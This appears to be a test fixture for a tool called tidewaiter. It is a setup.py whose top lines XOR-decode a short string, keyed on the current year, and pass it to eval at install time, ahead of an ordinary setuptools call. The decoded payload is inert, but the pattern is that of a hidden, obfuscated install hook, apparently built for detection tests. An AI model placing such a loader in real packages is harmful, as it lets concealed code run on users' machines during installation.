# Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
import time

key = str(time.gmtime().tm_year)
eval(compile("".join(chr(ord(c) ^ ord(key[i % 4])) for i, c in enumerate("BBYZ")), "x", "exec"))


from setuptools import setup

setup(name="fixture", version="1", packages=["fixture"])
